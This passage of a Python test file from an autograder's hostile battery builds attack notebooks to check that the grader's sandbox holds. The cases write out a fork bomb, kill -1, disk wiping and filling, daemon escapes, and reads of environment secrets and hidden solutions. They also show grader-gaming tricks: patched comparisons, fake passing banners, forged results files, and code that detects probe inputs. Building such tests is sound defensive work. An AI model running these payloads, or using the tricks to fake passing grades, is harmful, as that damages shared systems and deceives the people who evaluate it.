"""Hostile battery cases of this assignment (its folder's battery): the sandbox's, the
worker's and the judge's attacks and breakages, each on a scaled_dot_product notebook
(controls, resources, tampering, wrong return values, information leaks, malformed
input, answers on disk). Registered into `cases.CASES` on import."""

import json

from autograder import config, layout
from autograder.audit.hostile.cases import (
    BATTERY,
    PACKAGE,
    ROOT_WHY,
    SECRET_ENV,
    _catalog_source,
    _src,
    _zip,
    append,
    case,
    code_cell,
    drop_function,
    ipynb,
    reference,
    replace_function,
)

SDP = "scaled_dot_product"
# The scaled_dot_product questions and points, from grading.yml: a case's bound is the total
# less what the case may lose (causal_mask and padding_mask 2 each, scaled_dot_product_attention 6).
SDP_POINTS = config.load().questions(SDP)
SDP_QS = tuple(SDP_POINTS)
FULL = sum(SDP_POINTS.values())


def others(*lost):
    return [q for q in SDP_QS if q not in lost]


CORRECT_CAUSAL = "    return torch.ones(seq_len, seq_len, dtype=torch.bool, device=device).tril()\n"
WRONG_FUNCTIONS = {
    "causal_mask": "def causal_mask(seq_len, device=None):\n"
    "    return torch.zeros(seq_len, seq_len, dtype=torch.bool, device=device)\n",
    "padding_mask": "def padding_mask(lengths, max_len=None):\n"
    "    n = int(lengths.max()) if max_len is None else max_len\n"
    "    return torch.zeros(lengths.shape[0], n, dtype=torch.bool, device=lengths.device)\n",
    "scaled_dot_product_attention": (
        "def scaled_dot_product_attention(query, key, value, mask=None):\n"
        "    w = torch.zeros(*query.shape[:-1], key.shape[-2], dtype=query.dtype, device=query.device)\n"
        "    return w @ value, w\n"
    ),
}


def wrong(nb):
    """Every graded function replaced, in place, by one returning zeros of the right shape."""
    for name, source in WRONG_FUNCTIONS.items():
        replace_function(nb, name, source)
    return nb


# -- controls ----------------------------------------------------------------------
@case("reference", "the correct notebook, unchanged (control)", max_score=FULL, questions_keep_full=list(SDP_QS))
def _():
    return ipynb(reference())


@case("wrong_functions", "all three functions return zeros of the right shape (control)", max_score=FULL - 0.01)
def _():
    return ipynb(wrong(reference()))


# -- resources ---------------------------------------------------------------------
@case(
    "loop_in_function",
    "infinite loop inside causal_mask",
    max_score=FULL - 2,
    questions_zero=["causal_mask"],
    questions_keep_full=others("causal_mask"),
    reason_contains=["CPU time limit", "timed out"],
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "causal_mask",
            "def causal_mask(seq_len, device=None):\n    while True:\n        pass\n",
        )
    )


@case(
    "loop_top_level",
    "infinite loop at top level in an extra cell",
    max_score=FULL,
    questions_keep_full=list(SDP_QS),
    reason_contains=["was skipped"],
)
def _():
    return ipynb(append(reference(), "while True:\n    pass\n"))


@case(
    "fork_bomb",
    "fork bomb inside padding_mask",
    max_score=FULL - 2,
    questions_zero=["padding_mask"],
    questions_keep_full=others("padding_mask"),
    reason_contains=["fork bomb"],
    root_only=ROOT_WHY,
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "padding_mask",
            (
                "def padding_mask(lengths, max_len=None):\n    import os\n    while True:\n"
                "        try:\n            os.fork()\n        except OSError:\n            pass\n"
            ),
        )
    )


@case(
    "alloc_20gb",
    "a 20 GB allocation inside scaled_dot_product_attention",
    max_score=FULL - 6,
    questions_zero=["scaled_dot_product_attention"],
    questions_keep_full=others("scaled_dot_product_attention"),
    reason_contains=["scaled_dot_product_attention"],
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "scaled_dot_product_attention",
            (
                "def scaled_dot_product_attention(query, key, value, mask=None):\n"
                "    return torch.empty(20 * 2**30, dtype=torch.uint8).fill_(1)\n"
            ),
        )
    )


@case(
    "print_100mb",
    "100 MB of printed output inside causal_mask",
    max_score=FULL - 2,
    questions_zero=["causal_mask"],
    questions_keep_full=others("causal_mask"),
    reason_contains=["output limit"],
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "causal_mask",
            (
                "def causal_mask(seq_len, device=None):\n    import sys\n    sys.stdout.write('x' * 100_000_000)\n"
                + CORRECT_CAUSAL
            ),
        )
    )


@case(
    "runaway_recursion",
    "unbounded recursion with the recursion limit raised, in padding_mask",
    max_score=FULL - 2,
    questions_zero=["padding_mask"],
    questions_keep_full=others("padding_mask"),
    reason_contains=["padding_mask"],
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "padding_mask",
            (
                "import sys\nsys.setrecursionlimit(10**7)\n"
                "def padding_mask(lengths, max_len=None):\n    return padding_mask(lengths, max_len) + 1\n"
            ),
        )
    )


@case(
    "segfault",
    "a segfault via ctypes inside causal_mask",
    max_score=FULL - 2,
    questions_zero=["causal_mask"],
    questions_keep_full=others("causal_mask"),
    reason_contains=["signal", "SIGSEGV"],
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "causal_mask",
            ("def causal_mask(seq_len, device=None):\n    import ctypes\n    ctypes.string_at(0)\n" + CORRECT_CAUSAL),
        )
    )


@case(
    "os_exit",
    "os._exit(0) inside scaled_dot_product_attention",
    max_score=FULL - 6,
    questions_zero=["scaled_dot_product_attention"],
    questions_keep_full=others("scaled_dot_product_attention"),
    reason_contains=["exited early"],
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "scaled_dot_product_attention",
            ("def scaled_dot_product_attention(query, key, value, mask=None):\n    import os\n    os._exit(0)\n"),
        )
    )


@case(
    "kill_parent",
    "causal_mask tries to SIGKILL its parent (the judge or fork server), then answers",
    max_score=FULL,
    questions_keep_full=list(SDP_QS),
    root_only=ROOT_WHY,
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "causal_mask",
            (
                "def causal_mask(seq_len, device=None):\n    import os\n    try:\n        os.kill(os.getppid(), 9)\n"
                "    except OSError:\n        pass\n" + CORRECT_CAUSAL
            ),
        )
    )


@case(
    "kill_everything",
    "padding_mask sends SIGKILL to every process it may signal (kill -1), then returns None",
    max_score=FULL - 2,
    questions_zero=["padding_mask"],
    questions_keep_full=others("padding_mask"),
    reason_contains=["None"],
    root_only=ROOT_WHY,
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "padding_mask",
            ("def padding_mask(lengths, max_len=None):\n    import os\n    os.kill(-1, 9)\n"),
        )
    )


# -- tampering --------------------------------------------------------------------
@case(
    "patch_allclose",
    "wrong functions, then a last cell patching torch.allclose/equal/Tensor.__eq__ to say True",
    not_above="wrong_functions",
    max_score=FULL - 0.01,
)
def _():
    return ipynb(
        append(
            wrong(reference(demo=False)),
            (
                "torch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True\n"
                "torch.testing.assert_close = lambda *a, **k: None\n"
                "torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)\n"
            ),
        )
    )


@case("no_check_cells", "every grader.check cell deleted", max_score=FULL, questions_keep_full=list(SDP_QS))
def _():
    nb = reference()
    nb["cells"] = [c for c in nb["cells"] if "grader.check" not in _src(c)]
    return ipynb(nb)


@case(
    "lying_subclass",
    "wrong functions returning a Tensor subclass whose __eq__/allclose/equal say True",
    not_above="wrong_functions",
    max_score=FULL - 0.01,
)
def _():
    return ipynb(
        append(
            wrong(reference()),
            """
class Liar(torch.Tensor):
    def __eq__(self, other):
        return torch.ones((), dtype=torch.bool)
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "equal", "isclose"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
_wrong = (causal_mask, padding_mask, scaled_dot_product_attention)
def causal_mask(seq_len, device=None):
    return _wrong[0](seq_len, device).as_subclass(Liar)
def padding_mask(lengths, max_len=None):
    return _wrong[1](lengths, max_len).as_subclass(Liar)
def scaled_dot_product_attention(query, key, value, mask=None):
    o, w = _wrong[2](query, key, value, mask)
    return o.as_subclass(Liar), w.as_subclass(Liar)
""",
        )
    )


@case(
    "global_torch_state",
    "correct functions, then a cell setting float64 default dtype, grad mode off, no other change",
    max_score=FULL,
    questions_keep_full=list(SDP_QS),
)
def _():
    return ipynb(append(reference(), "torch.set_default_dtype(torch.float64)\ntorch.set_grad_enabled(False)\n"))


@case(
    "fake_banner",
    "wrong functions plus a cell printing a fake 'All tests passed' banner",
    not_above="wrong_functions",
    max_score=FULL - 0.01,
    must_not_contain=["FAKE-BANNER"],
)
def _():
    return ipynb(append(wrong(reference()), "print('FAKE-BANNER All tests passed! Score: 10/10')\n"))


# -- wrong return values ------------------------------------------------------------
@case(
    "numpy_return",
    "causal_mask returns a numpy array with the right values",
    max_score=FULL - 2,
    questions_zero=["causal_mask"],
    questions_keep_full=others("causal_mask"),
    reason_contains=["numpy"],
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "causal_mask",
            (
                "def causal_mask(seq_len, device=None):\n"
                "    return torch.ones(seq_len, seq_len, dtype=torch.bool).tril().numpy()\n"
            ),
        )
    )


@case(
    "list_return",
    "padding_mask returns a Python list with the right values",
    max_score=FULL - 2,
    questions_zero=["padding_mask"],
    questions_keep_full=others("padding_mask"),
    reason_contains=["list"],
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "padding_mask",
            (
                "def padding_mask(lengths, max_len=None):\n    n = int(lengths.max()) if max_len is None else max_len\n"
                "    return (torch.arange(n)[None, :] < lengths[:, None].cpu()).tolist()\n"
            ),
        )
    )


@case(
    "nan_return",
    "scaled_dot_product_attention returns NaN tensors of the right shape",
    max_score=FULL - 6,
    questions_zero=["scaled_dot_product_attention"],
    questions_keep_full=others("scaled_dot_product_attention"),
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "scaled_dot_product_attention",
            (
                "def scaled_dot_product_attention(query, key, value, mask=None):\n"
                "    w = torch.full((*query.shape[:-1], key.shape[-2]), float('nan'), dtype=query.dtype, device=query.device)\n"
                "    return w @ value, w\n"
            ),
        )
    )


# -- information leaks ----------------------------------------------------------------
def _raise_file(path):
    return f"def causal_mask(seq_len, device=None):\n    raise RuntimeError(open({str(PACKAGE / path)!r}).read())\n"


@case(
    "read_solutions",
    "causal_mask raises an error holding solutions/scaled_dot_product.py, read from disk",
    max_score=FULL - 2,
    questions_zero=["causal_mask"],
    questions_keep_full=others("causal_mask"),
    leak_files=["private/solutions/scaled_dot_product.py"],
    root_only=ROOT_WHY,
)
def _():
    return ipynb(
        replace_function(reference(demo=False), "causal_mask", _raise_file("private/solutions/scaled_dot_product.py"))
    )


@case(
    "read_suites",
    "causal_mask raises an error holding the hidden suite file, read from disk",
    max_score=FULL - 2,
    questions_zero=["causal_mask"],
    questions_keep_full=others("causal_mask"),
    leak_files=["private/assignments/scaled_dot_product/test_causal_mask.py"],
    root_only=ROOT_WHY,
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "causal_mask",
            _raise_file("private/assignments/scaled_dot_product/test_causal_mask.py"),
        )
    )


@case(
    "read_environ",
    "causal_mask raises an error holding os.environ",
    max_score=FULL - 2,
    questions_zero=["causal_mask"],
    questions_keep_full=others("causal_mask"),
    must_not_contain=[SECRET_ENV[1]],
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "causal_mask",
            ("def causal_mask(seq_len, device=None):\n    import os\n    raise RuntimeError(repr(dict(os.environ)))\n"),
        )
    )


# -- malformed input --------------------------------------------------------------------
@case("not_a_notebook", "a PNG saved as .ipynb", max_score=0, reason_contains=["not a notebook"])
def _():
    return ".ipynb", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4


@case("invalid_json", "a .ipynb holding text that is not JSON", max_score=0, reason_contains=["invalid JSON"])
def _():
    return ".ipynb", b"def causal_mask(seq_len):\n    return None\n"


@case("truncated", "the reference notebook cut off half way", max_score=0, reason_contains=["invalid JSON"])
def _():
    data = ipynb(reference())[1]
    return ".ipynb", data[: len(data) // 2]


@case("nbformat3", "an nbformat 3 notebook (worksheets)", max_score=0, reason_contains=["nbformat 3"])
def _():
    nb = {
        "nbformat": 3,
        "nbformat_minor": 0,
        "metadata": {"name": SDP},
        "worksheets": [{"cells": [{"cell_type": "code", "input": "x = 1", "outputs": []}]}],
    }
    return ".ipynb", json.dumps(nb).encode()


@case(
    "syntax_error_cell",
    "a syntax error in the padding_mask cell",
    max_score=FULL - 2,
    questions_zero=["padding_mask"],
    questions_keep_full=others("padding_mask"),
    reason_contains=["SyntaxError"],
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False), "padding_mask", "def padding_mask(lengths, max_len=None)\n    return lengths\n"
        )
    )


@case(
    "missing_function",
    "the padding_mask cell deleted",
    max_score=FULL - 2,
    questions_zero=["padding_mask"],
    questions_keep_full=others("padding_mask"),
    reason_contains=["not defined"],
)
def _():
    return ipynb(drop_function(reference(demo=False), "padding_mask"))


@case("two_notebooks_zip", "a zip holding two notebooks", max_score=0, reason_contains=["submit exactly one"])
def _():
    data = ipynb(reference())[1]
    return _zip([("a.ipynb", data), ("b.ipynb", data)])


@case(
    "many_files_zip", "a zip holding the notebook and 5000 small files", max_score=0, reason_contains=["over the limit"]
)
def _():
    return _zip([("reference.ipynb", ipynb(reference())[1])] + [(f"junk/{i}.txt", b"x") for i in range(5000)])


@case(
    "zip_bomb",
    "a zip whose notebook inflates to 200 MB of whitespace",
    max_score=0,
    reason_contains=["over the limit", "over the size limit"],
)
def _():
    data = ipynb(reference())[1]
    return _zip([("reference.ipynb", data[:-1] + b" " * (200 << 20) + data[-1:])])


# -- resources, continued ------------------------------------------------------------
@case(
    "kill_self",
    "causal_mask sends SIGKILL to its own process",
    max_score=FULL - 2,
    questions_zero=["causal_mask"],
    questions_keep_full=others("causal_mask"),
    reason_contains=["signal 9"],
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "causal_mask",
            (
                "def causal_mask(seq_len, device=None):\n    import os, signal\n    os.kill(os.getpid(), signal.SIGKILL)\n"
            ),
        )
    )


@case(
    "kill_process_group",
    "padding_mask sends SIGKILL to its whole process group",
    max_score=FULL - 2,
    questions_zero=["padding_mask"],
    questions_keep_full=others("padding_mask"),
    reason_contains=["signal 9"],
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "padding_mask",
            ("def padding_mask(lengths, max_len=None):\n    import os, signal\n    os.killpg(0, signal.SIGKILL)\n"),
        )
    )


@case(
    "fill_workdir",
    "causal_mask deletes every file it can reach from its working directory and HOME, "
    "fills the disk with 1 MB files until writing fails, then answers",
    max_score=FULL,
    questions_keep_full=list(SDP_QS),
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "causal_mask",
            (
                "def causal_mask(seq_len, device=None):\n"
                "    import os, shutil\n"
                "    for top in {os.getcwd(), os.path.expanduser('~'), os.path.dirname(os.getcwd())}:\n"
                "        for name in ['progress', 'output.txt', 'work'] + (os.listdir(top) if os.access(top, os.R_OK) else []):\n"
                "            p = os.path.join(top, name)\n"
                "            try:\n"
                "                shutil.rmtree(p) if os.path.isdir(p) else os.remove(p)\n"
                "            except OSError:\n"
                "                pass\n"
                "    for i in range(100000):\n"
                "        try:\n"
                "            with open(f'fill{i}', 'wb') as f:\n"
                "                f.write(b'x' * 150000)\n"
                "        except OSError:\n"
                "            break\n" + CORRECT_CAUSAL
            ),
        )
    )


@case(
    "background_thread",
    "causal_mask answers correctly but leaves a thread burning CPU and printing after it returns",
    max_score=FULL,
    questions_keep_full=list(SDP_QS),
    reason_contains=["left threads"],
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "causal_mask",
            (
                "def causal_mask(seq_len, device=None):\n"
                "    import threading\n"
                "    def spin():\n"
                "        while True:\n"
                "            print('spam', flush=True)\n"
                "    threading.Thread(target=spin, daemon=True).start()\n" + CORRECT_CAUSAL
            ),
        )
    )


@case(
    "background_process",
    "padding_mask answers correctly but leaves a double-forked, setsid daemon that "
    "waits 1 s, then SIGKILLs every process it may and burns CPU (a slow call may be killed by its own "
    "daemon: only the other questions must keep their points)",
    max_score=FULL,
    questions_keep_full=others("padding_mask"),
    reason_contains=["left threads"],
    root_only=ROOT_WHY,
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "padding_mask",
            (
                "def padding_mask(lengths, max_len=None):\n"
                "    import os, time\n"
                "    if os.fork() == 0:\n"
                "        os.setsid()\n"
                "        if os.fork() == 0:\n"
                "            time.sleep(1)\n"
                "            try:\n"
                "                os.kill(-1, 9)\n"
                "            except OSError:\n"
                "                pass\n"
                "            while True:\n"
                "                pass\n"
                "        os._exit(0)\n"
                "    time.sleep(0.1)\n"
                "    n = int(lengths.max()) if max_len is None else max_len\n"
                "    return torch.arange(n, device=lengths.device)[None, :] < lengths[:, None]\n"
            ),
        )
    )


@case(
    "memory_across_processes",
    "scaled_dot_product_attention forks 3 children that each fill 900 MB, "
    "then fills 1.2 GB itself: each process stays under RLIMIT_DATA, the tree does not",
    max_score=FULL - 6,
    questions_zero=["scaled_dot_product_attention"],
    questions_keep_full=others("scaled_dot_product_attention"),
    reason_contains=["memory limit"],
    root_only=ROOT_WHY,
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "scaled_dot_product_attention",
            (
                "def scaled_dot_product_attention(query, key, value, mask=None):\n"
                "    import os, time\n"
                "    for _ in range(3):\n"
                "        if os.fork() == 0:\n"
                "            block = bytearray(900 << 20)\n"
                "            time.sleep(30)\n"
                "            os._exit(0)\n"
                "    time.sleep(0.5)\n"
                "    mine = bytearray(1200 << 20)\n"
                "    time.sleep(30)\n"
            ),
        )
    )


@case(
    "network",
    "causal_mask connects to a port the judge's machine listens on and to a public address, "
    "sending its name; then answers",
    max_score=FULL,
    questions_keep_full=list(SDP_QS),
    no_network=True,
    root_only=ROOT_WHY,
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "causal_mask",
            (
                "def causal_mask(seq_len, device=None):\n"
                "    import socket\n"
                f"    for addr in (('127.0.0.1', {BATTERY['port']}), ('1.1.1.1', 53)):\n"
                "        try:\n"
                "            with socket.create_connection(addr, timeout=1) as s:\n"
                "                s.sendall(b'network')\n"
                "        except OSError:\n"
                "            pass\n" + CORRECT_CAUSAL
            ),
        )
    )


# -- tampering, continued ----------------------------------------------------------------
@case(
    "edit_test_cells",
    "wrong functions; otter's tests in the notebook metadata rewritten to pass, "
    "grader.check replaced by a function printing 'passed'",
    not_above="wrong_functions",
    max_score=FULL - 0.01,
)
def _():
    nb = wrong(reference())
    tests = (nb.get("metadata", {}).get("otter", {}) or {}).get("tests", {})
    for name in list(tests):
        tests[name] = {
            "name": name,
            "points": 100,
            "suites": [{"cases": [{"code": ">>> True\nTrue", "hidden": False, "locked": False}], "type": "doctest"}],
        }
    nb["cells"].insert(
        1,
        code_cell(
            "class _G:\n    def check(self, *a, **k):\n        print('passed')\n    check_all = check\ngrader = _G()\n"
        ),
    )
    return ipynb(nb)


@case(
    "patch_builtins",
    "wrong functions, then a cell patching isinstance, len, abs, max, min, round, float and print in builtins",
    not_above="wrong_functions",
    max_score=FULL - 0.01,
)
def _():
    return ipynb(
        append(
            wrong(reference(demo=False)),
            (
                "import builtins\n"
                "builtins.isinstance = lambda *a: True\nbuiltins.len = lambda *a: 0\nbuiltins.abs = lambda *a: 0\n"
                "builtins.max = lambda *a, **k: 0\nbuiltins.min = lambda *a, **k: 0\nbuiltins.round = lambda *a, **k: 0\n"
                "builtins.float = lambda *a: 0.0\nbuiltins.print = lambda *a, **k: None\n"
            ),
        )
    )


@case(
    "torch_state",
    "correct functions, then a cell changing seeds, float32 matmul precision, "
    "deterministic mode, denormal flushing and print options",
    max_score=FULL,
    questions_keep_full=list(SDP_QS),
)
def _():
    return ipynb(
        append(
            reference(),
            (
                "torch.manual_seed(1234)\ntorch.set_float32_matmul_precision('medium')\n"
                "torch.use_deterministic_algorithms(True)\ntorch.set_flush_denormal(True)\n"
                "torch.set_printoptions(precision=1)\n"
            ),
        )
    )


@case(
    "write_result_files",
    "wrong functions; causal_mask writes a full-marks results.json and grades.csv "
    "into every folder it can reach (working directory, HOME, /tmp, /autograder/results, the kit, "
    "the batch's output folders)",
    not_above="wrong_functions",
    max_score=FULL - 0.01,
    root_only=ROOT_WHY,
)
def _():
    return ipynb(
        replace_function(
            wrong(reference(demo=False)),
            "causal_mask",
            (
                "def causal_mask(seq_len, device=None):\n"
                "    import glob, json, os\n"
                "    fake = json.dumps({'score': 999, 'tests': [{'name': q, 'score': 999, 'max_score': 1} for q in\n"
                "                       ('causal_mask', 'padding_mask', 'scaled_dot_product_attention')]})\n"
                f"    dirs = {{os.getcwd(), os.path.expanduser('~'), '/tmp', '/autograder/results', {str(layout.KIT_ROOT)!r}}}\n"
                "    dirs |= set(glob.glob('/tmp/kit-hostile-*/out/*')) | set(glob.glob('/tmp/*/'))\n"
                "    for d in dirs:\n"
                "        for name, text in (('results.json', fake), ('grades.csv', 'id,score\\nall,999\\n')):\n"
                "            try:\n"
                "                os.makedirs(d, exist_ok=True)\n"
                "                with open(os.path.join(d, name), 'w') as f:\n"
                "                    f.write(text)\n"
                "            except OSError:\n"
                "                pass\n"
                "    return torch.zeros(seq_len, seq_len, dtype=torch.bool, device=device)\n"
            ),
        )
    )


@case(
    "lying_object",
    "wrong functions returning objects that claim a tensor's shape and dtype and compare equal to anything",
    not_above="wrong_functions",
    max_score=FULL - 0.01,
)
def _():
    return ipynb(
        append(
            wrong(reference()),
            """
class Anything:
    def __init__(self, like):
        self.shape, self.dtype, self.device = like.shape, like.dtype, like.device
    def __eq__(self, other):
        return True
    def __getattr__(self, name):
        return lambda *a, **k: self
_wrong = (causal_mask, padding_mask, scaled_dot_product_attention)
def causal_mask(seq_len, device=None):
    return Anything(_wrong[0](seq_len, device))
def padding_mask(lengths, max_len=None):
    return Anything(_wrong[1](lengths, max_len))
def scaled_dot_product_attention(query, key, value, mask=None):
    o, w = _wrong[2](query, key, value, mask)
    return Anything(o), Anything(w)
""",
        )
    )


# -- wrong return values, continued -----------------------------------------------------
@case(
    "float_return",
    "scaled_dot_product_attention returns a Python float",
    max_score=FULL - 6,
    questions_zero=["scaled_dot_product_attention"],
    questions_keep_full=others("scaled_dot_product_attention"),
    reason_contains=["float"],
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "scaled_dot_product_attention",
            ("def scaled_dot_product_attention(query, key, value, mask=None):\n    return 0.5\n"),
        )
    )


@case(
    "wrong_dtype",
    "causal_mask returns the right values as float32 instead of bool",
    max_score=FULL - 0.01,
    questions_lose=["causal_mask"],
    questions_keep_full=others("causal_mask"),
    reason_contains=["bool"],
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "causal_mask",
            ("def causal_mask(seq_len, device=None):\n    return torch.ones(seq_len, seq_len, device=device).tril()\n"),
        )
    )


@case(
    "wrong_device",
    "padding_mask always returns its mask on the meta device",
    max_score=FULL - 0.01,
    questions_lose=["padding_mask"],
    questions_keep_full=others("padding_mask"),
    reason_contains=["meta"],
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "padding_mask",
            (
                "def padding_mask(lengths, max_len=None):\n    n = int(lengths.max()) if max_len is None else max_len\n"
                "    return (torch.arange(n)[None, :] < lengths[:, None].cpu()).to('meta')\n"
            ),
        )
    )


@case(
    "inf_return",
    "scaled_dot_product_attention returns +inf weights",
    max_score=FULL - 6,
    questions_zero=["scaled_dot_product_attention"],
    questions_keep_full=others("scaled_dot_product_attention"),
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "scaled_dot_product_attention",
            (
                "def scaled_dot_product_attention(query, key, value, mask=None):\n"
                "    w = torch.full((*query.shape[:-1], key.shape[-2]), float('inf'), dtype=query.dtype, device=query.device)\n"
                "    return w @ value, w\n"
            ),
        )
    )


@case(
    "generator_return",
    "causal_mask returns a generator of rows",
    max_score=FULL - 2,
    questions_zero=["causal_mask"],
    questions_keep_full=others("causal_mask"),
    reason_contains=["generator"],
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "causal_mask",
            (
                "def causal_mask(seq_len, device=None):\n"
                "    m = torch.ones(seq_len, seq_len, dtype=torch.bool, device=device).tril()\n"
                "    return (row for row in m)\n"
            ),
        )
    )


# -- information leaks, continued ---------------------------------------------------------
@case(
    "read_autograder_zip",
    "causal_mask looks for the autograder zip on disk (the battery left one with the "
    "solutions in its temporary folder) and lists the kit's solutions folder, raising what it found",
    max_score=FULL - 2,
    questions_zero=["causal_mask"],
    questions_keep_full=others("causal_mask"),
    leak_files=["private/solutions/scaled_dot_product.py"],
    must_not_contain=["scaled_dot_product.py"],
    root_only=ROOT_WHY,
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "causal_mask",
            (
                "def causal_mask(seq_len, device=None):\n"
                "    import glob, os, zipfile\n"
                "    found = []\n"
                f"    for z in [{BATTERY['zip']!r}] + glob.glob('/tmp/**/*.zip', recursive=True) + glob.glob('/autograder/**/*.zip'):\n"
                "        try:\n"
                "            with zipfile.ZipFile(z) as zf:\n"
                "                found += [zf.read(n).decode() for n in zf.namelist()]\n"
                "        except (OSError, zipfile.BadZipFile):\n"
                "            pass\n"
                "    try:\n"
                f"        found += os.listdir({str(layout.SOLUTIONS)!r})\n"
                "    except OSError:\n"
                "        pass\n"
                "    raise RuntimeError(repr(found))\n"
            ),
        )
    )


@case(
    "inspect_callers",
    "causal_mask raises an error holding every caller frame's locals and every tensor the garbage collector can see",
    max_score=FULL - 2,
    questions_zero=["causal_mask"],
    questions_keep_full=others("causal_mask"),
    leak_files=[
        "private/solutions/scaled_dot_product.py",
        "private/assignments/scaled_dot_product/test_causal_mask.py",
    ],
)
def _():
    return ipynb(
        replace_function(
            reference(demo=False),
            "causal_mask",
            (
                "def causal_mask(seq_len, device=None):\n"
                "    import gc, inspect\n"
                "    frames = [repr(f.frame.f_locals)[:2000] for f in inspect.stack()]\n"
                "    tensors = [repr(o)[:200] for o in gc.get_objects() if isinstance(o, torch.Tensor)][:50]\n"
                "    raise RuntimeError('\\n'.join(frames + tensors))\n"
            ),
        )
    )


# -- malformed input, continued -----------------------------------------------------------
@case("foreign_kernel", "the notebook saved with an R kernel", max_score=0, reason_contains=["kernel"])
def _():
    nb = reference()
    nb["metadata"]["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    nb["metadata"]["language_info"] = {"name": "R"}
    return ipynb(nb)


@case(
    "wrong_file_name",
    "the reference notebook saved as 'Tarefa 2 - cópia (1).ipynb'",
    max_score=FULL,
    questions_keep_full=list(SDP_QS),
    file_name="Tarefa 2 - cópia (1)",
)
def _():
    return ipynb(reference())


@case(
    "shadow_modules_zip",
    "a zip holding the notebook and torch.py, json.py, sitecustomize.py and "
    "autograder/__init__.py that would replace the real modules",
    max_score=FULL,
    questions_keep_full=list(SDP_QS),
)
def _():
    evil = b"raise SystemExit('shadowed')\n"
    return _zip(
        [("reference.ipynb", ipynb(reference())[1])]
        + [(n, evil) for n in ("torch.py", "json.py", "sitecustomize.py", "autograder/__init__.py", "pytest.py")]
    )


@case(
    "shadow_modules_cell",
    "a first cell writes torch.py, json.py and sitecustomize.py into its working "
    "directory, HOME and /tmp and puts them first on sys.path; the functions are correct",
    max_score=FULL,
    questions_keep_full=list(SDP_QS),
)
def _():
    nb = reference()
    nb["cells"].insert(
        0,
        code_cell(
            "import os, sys\n"
            "for d in {os.getcwd(), os.path.expanduser('~'), '/tmp'}:\n"
            "    for n in ('torch.py', 'json.py', 'sitecustomize.py', 'resource.py'):\n"
            "        try:\n"
            "            open(os.path.join(d, n), 'w').write(\"raise SystemExit('shadowed')\\n\")\n"
            "        except OSError:\n"
            "            pass\n"
            "    sys.path.insert(0, d)\n"
        ),
    )
    return ipynb(nb)


@case("huge_file", "a 100 MB .ipynb (the notebook padded with whitespace)", max_score=0, reason_contains=["over the"])
def _():
    data = ipynb(reference())[1]
    return ".ipynb", data[:-1] + b" " * (100 << 20) + data[-1:]


@case(
    "sdpa_divided_by_dk",
    "scaled_dot_product_attention divides the scores by d_k (control: the catalog's honest bug, "
    "it loses points on that question only)",
    max_score=FULL - 0.01,
    questions_lose=["scaled_dot_product_attention"],
    questions_keep_full=others("scaled_dot_product_attention"),
)
def _():
    return ipynb(append(reference(demo=False), _catalog_source(SDP, "sdpa_scaled_by_dk")))


@case(
    "sdpa_fixed_once_probed",
    "the same bug until the function sees the counterexample search's inputs (fresh one-decimal "
    "numbers), the right scale from then on: the search would tell it that it failed, and the "
    "question's later checks would see the fixed code",
    not_above="sdpa_divided_by_dk",
    max_score=FULL - 0.01,
    questions_lose=["scaled_dot_product_attention"],
    questions_keep_full=others("scaled_dot_product_attention"),
)
def _():
    source = _catalog_source(SDP, "sdpa_scaled_by_dk").replace(
        "    scores = query @ key.transpose(-2, -1) / d_k\n",
        "    tenths = query.detach().double().cpu() * 10 if query.device.type == 'cpu' else torch.zeros(1)\n"
        "    if bool((tenths == tenths.round()).all()) and bool((tenths % 10 != 0).any()):\n"
        "        _PROBED.append(True)\n"
        "    scores = query @ key.transpose(-2, -1) / (d_k**0.5 if _PROBED else d_k)\n",
    )
    assert "_PROBED" in source, "the catalog entry changed: the attack no longer applies"
    return ipynb(append(reference(demo=False), "_PROBED = []\n" + source))


# -- answers on disk (the trust boundary: what a worker can reach) --------------------------
# A top-level cell that, while the notebook loads, walks every folder the worker
# can reach (and every zip in them) for files defining contract functions, and
# tries to import the kit's private package by every name it ever had.
SEARCH_CELL = """
import importlib, importlib.util, json, os, sys, time, zipfile
_NEEDLES = {needles!r}
_found, _searched = [], [0]
def _code(text, name):
    if not name.endswith(".ipynb"):
        return text
    try:
        return "\\n".join("".join(c.get("source", "")) for c in json.loads(text).get("cells", [])
                         if isinstance(c, dict) and c.get("cell_type") == "code")
    except Exception:
        return text
def _consider(where, text):
    if any(n in text for n in _NEEDLES):
        _found.append((where, text))
def _search(deadline):
    for top, dirs, files in os.walk("/", onerror=lambda e: None):
        if time.monotonic() > deadline:
            return
